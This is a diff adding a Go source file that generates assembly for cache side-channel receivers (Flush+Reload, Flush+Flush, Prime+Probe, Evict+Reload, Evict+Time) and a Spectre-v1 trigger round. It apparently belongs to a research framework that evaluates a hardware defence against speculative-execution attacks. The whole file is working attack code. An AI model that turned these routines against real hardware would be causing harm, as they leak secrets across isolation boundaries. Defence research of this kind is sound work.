@@ -1,0 +1,248 @@
+package attack
+
+import (
+	"fmt"
+
+	"conspec/internal/asm"
+)
+
+// emitProbeFlushReload emits the Flush+Reload receiver: reload each guess's
+// transmission line under RDCYCLE timing; the fastest reload is the line
+// the victim's speculative execution refilled.
+func emitProbeFlushReload(b *asm.Builder, id string, shift int32) {
+	loop := asm.Label("frl_" + id)
+	next := asm.Label("frn_" + id)
+	if shift >= 12 {
+		// Page-granular probing would otherwise measure the DTLB walk, not
+		// the cache: a blocked suspect miss still translates its address
+		// (the paper requires the PPN before the TPBuf lookup), so the TLB
+		// entry is warm for the secret's page even when the refill was
+		// discarded. Real Flush+Reload PoCs neutralize this by touching a
+		// DIFFERENT line of each probe page first; do the same.
+		warm := asm.Label("frw_" + id)
+		b.Li(rGuess, 1)
+		b.Bind(warm)
+		b.Shli(rTmpA, rGuess, shift)
+		b.Add(rTmpA, rA2, rTmpA)
+		b.Ld1(asm.T2, rTmpA, 2048) // same page, different line
+		b.Addi(rGuess, rGuess, 1)
+		b.Li(rTmpB, probeEntries)
+		b.Blt(rGuess, rTmpB, warm)
+		b.Fence()
+	}
+	b.Li(rGuess, 1) // guess 0 is polluted by training
+	b.Li(rBestLat, 1<<30)
+	b.Li(rBestVal, 0)
+	b.Bind(loop)
+	b.Shli(rTmpA, rGuess, shift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Fence()
+	b.Rdcycle(asm.T2)
+	b.Ld1(asm.T3, rTmpA, 0)
+	b.Fence()
+	b.Rdcycle(asm.T4)
+	b.Sub(asm.T4, asm.T4, asm.T2) // latency
+	b.Bgeu(asm.T4, rBestLat, next)
+	b.Add(rBestLat, asm.T4, asm.Zero)
+	b.Add(rBestVal, rGuess, asm.Zero)
+	b.Bind(next)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, loop)
+}
+
+// emitProbeFlushFlush emits the Flush+Flush receiver: time CLFLUSH itself.
+// Flushing a present line is slower than flushing an absent one, so the
+// SLOWEST flush identifies the refilled line — and the probe leaves no
+// reload footprint of its own.
+func emitProbeFlushFlush(b *asm.Builder, id string, shift int32) {
+	loop := asm.Label("ffl_" + id)
+	next := asm.Label("ffn_" + id)
+	b.Li(rGuess, 1)
+	b.Li(rBestLat, 0)
+	b.Li(rBestVal, 0)
+	b.Bind(loop)
+	b.Shli(rTmpA, rGuess, shift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Fence()
+	b.Rdcycle(asm.T2)
+	b.Clflush(rTmpA, 0)
+	b.Fence()
+	b.Rdcycle(asm.T4)
+	b.Sub(asm.T4, asm.T4, asm.T2)
+	b.Bgeu(rBestLat, asm.T4, next) // keep the maximum
+	b.Add(rBestLat, asm.T4, asm.Zero)
+	b.Add(rBestVal, rGuess, asm.Zero)
+	b.Bind(next)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, loop)
+}
+
+// emitEvictTransmission emits the Evict+Reload eviction phase: instead of
+// CLFLUSH, walk ways*L1-way-stride conflict lines in the attacker's private
+// buffer for each guess's set, forcing the transmission lines out of L1.
+func emitEvictTransmission(b *asm.Builder, id string, shift int32, l1Sets, l1Ways int) {
+	outer := asm.Label("evo_" + id)
+	inner := asm.Label("evi_" + id)
+	wayStride := int32(l1Sets * 64)
+	setMask := int32(l1Sets-1) << 6
+	b.Li(rGuess, 0)
+	b.Bind(outer)
+	// Set index (as a byte offset) of this guess's transmission line.
+	b.Shli(rTmpA, rGuess, shift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Andi(rTmpA, rTmpA, setMask)
+	b.Add(rTmpA, rEvict, rTmpA) // way-0 conflict line
+	b.Li(asm.T5, 0)             // way counter
+	b.Bind(inner)
+	b.Ld(asm.T6, rTmpA, 0)
+	b.Addi(rTmpA, rTmpA, wayStride)
+	b.Addi(asm.T5, asm.T5, 1)
+	b.Li(rTmpB, int32(l1Ways))
+	b.Blt(asm.T5, rTmpB, inner)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, outer)
+	b.Fence()
+}
+
+// emitPrime fills every monitored set (1..probeEntries-1, offset from the
+// transmission base) with the attacker's conflict lines. Set 0 is left
+// untouched: it holds the victim's secret line, which must stay warm for
+// the speculation window to outlive the branch resolution.
+func emitPrime(b *asm.Builder, id string, l1Sets, l1Ways int) {
+	outer := asm.Label("pro_" + id)
+	inner := asm.Label("pri_" + id)
+	wayStride := int32(l1Sets * 64)
+	setMask := int32(l1Sets-1) << 6
+	b.Li(rGuess, 1)
+	b.Bind(outer)
+	b.Shli(rTmpA, rGuess, setShift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Andi(rTmpA, rTmpA, setMask)
+	b.Add(rTmpA, rEvict, rTmpA)
+	b.Li(asm.T5, 0)
+	b.Bind(inner)
+	b.Ld(asm.T6, rTmpA, 0)
+	b.Addi(rTmpA, rTmpA, wayStride)
+	b.Addi(asm.T5, asm.T5, 1)
+	b.Li(rTmpB, int32(l1Ways))
+	b.Blt(asm.T5, rTmpB, inner)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, outer)
+	b.Fence()
+}
+
+// emitProbePrime times the attacker's own conflict lines per monitored set;
+// the set whose ways accumulate the highest total latency lost a line to
+// the victim's speculative refill.
+func emitProbePrime(b *asm.Builder, id string, l1Sets, l1Ways int) {
+	outer := asm.Label("ppo_" + id)
+	inner := asm.Label("ppi_" + id)
+	next := asm.Label("ppn_" + id)
+	wayStride := int32(l1Sets * 64)
+	setMask := int32(l1Sets-1) << 6
+	b.Li(rGuess, 1)
+	b.Li(rBestLat, 0)
+	b.Li(rBestVal, 0)
+	b.Bind(outer)
+	b.Shli(rTmpA, rGuess, setShift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Andi(rTmpA, rTmpA, setMask)
+	b.Add(rTmpA, rEvict, rTmpA)
+	b.Li(asm.T5, 0) // way counter
+	b.Li(asm.A5, 0) // per-set latency sum
+	b.Bind(inner)
+	b.Fence()
+	b.Rdcycle(asm.T2)
+	b.Ld(asm.T6, rTmpA, 0)
+	b.Fence()
+	b.Rdcycle(asm.T4)
+	b.Sub(asm.T4, asm.T4, asm.T2)
+	b.Add(asm.A5, asm.A5, asm.T4)
+	b.Addi(rTmpA, rTmpA, wayStride)
+	b.Addi(asm.T5, asm.T5, 1)
+	b.Li(rTmpB, int32(l1Ways))
+	b.Blt(asm.T5, rTmpB, inner)
+	b.Bgeu(rBestLat, asm.A5, next) // keep the maximum total
+	b.Add(rBestLat, asm.A5, asm.Zero)
+	b.Add(rBestVal, rGuess, asm.Zero)
+	b.Bind(next)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, outer)
+}
+
+// emitEvictTimeRound emits one Evict+Time candidate round: evict candidate
+// c's set, re-open the window, trigger the out-of-bounds speculation, then
+// TIME an in-bounds victim invocation that architecturally touches
+// transmission[c]. If c is the secret, the speculative refill makes the
+// timed run fast. rGuess holds c on entry; the measured latency lands in T4.
+func emitEvictTimeRound(b *asm.Builder, id string, l1Sets, l1Ways int) {
+	inner := asm.Label("eti_" + id)
+	wayStride := int32(l1Sets * 64)
+	setMask := int32(l1Sets-1) << 6
+
+	// Evict candidate set c with the attacker's conflict lines.
+	b.Shli(rTmpA, rGuess, setShift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Andi(rTmpA, rTmpA, setMask)
+	b.Add(rTmpA, rEvict, rTmpA)
+	b.Li(asm.T5, 0)
+	b.Bind(inner)
+	b.Ld(asm.T6, rTmpA, 0)
+	b.Addi(rTmpA, rTmpA, wayStride)
+	b.Addi(asm.T5, asm.T5, 1)
+	b.Li(rTmpB, int32(l1Ways))
+	b.Blt(asm.T5, rTmpB, inner)
+	b.Fence()
+
+	// Open the window and trigger the out-of-bounds speculation.
+	emitFlushBound(b)
+	emitTriggerV1(b, fmt.Sprintf("%s_c", id))
+
+	// Point array1[0] at candidate c and time the in-bounds call.
+	b.Add(rTmpA, rA1, asm.Zero)
+	b.St1(rGuess, rTmpA, 0)
+	b.Fence()
+	emitGHRNormalize(b, id+"_tm")
+	b.Fence() // clean bracket: older work drained before the first read
+	// A2/A3 hold the timestamps: the gadget clobbers T0-T5, so the bracket
+	// must live in registers it never touches.
+	b.Rdcycle(asm.A2)
+	b.Li(asm.A0, 0)
+	b.Jal(asm.RA, "gadget")
+	b.Fence()
+	b.Rdcycle(asm.A3)
+	b.Sub(asm.T4, asm.A3, asm.A2)
+}
+
+// emitProbeFlushReloadRaw is the Flush+Reload receiver WITHOUT the
+// TLB-neutralizing pre-pass: its timing includes the DTLB walk, so it reads
+// the translation side channel as well as the cache one. Used by the
+// TLB-channel scenario that motivates the DTLB-hit filter extension.
+func emitProbeFlushReloadRaw(b *asm.Builder, id string, shift int32) {
+	loop := asm.Label("frr_" + id)
+	next := asm.Label("frx_" + id)
+	b.Li(rGuess, 1)
+	b.Li(rBestLat, 1<<30)
+	b.Li(rBestVal, 0)
+	b.Bind(loop)
+	b.Shli(rTmpA, rGuess, shift)
+	b.Add(rTmpA, rA2, rTmpA)
+	b.Fence()
+	b.Rdcycle(asm.T2)
+	b.Ld1(asm.T3, rTmpA, 0)
+	b.Fence()
+	b.Rdcycle(asm.T4)
+	b.Sub(asm.T4, asm.T4, asm.T2)
+	b.Bgeu(asm.T4, rBestLat, next)
+	b.Add(rBestLat, asm.T4, asm.Zero)
+	b.Add(rBestVal, rGuess, asm.Zero)
+	b.Bind(next)
+	b.Addi(rGuess, rGuess, 1)
+	b.Li(rTmpB, probeEntries)
+	b.Blt(rGuess, rTmpB, loop)
+}
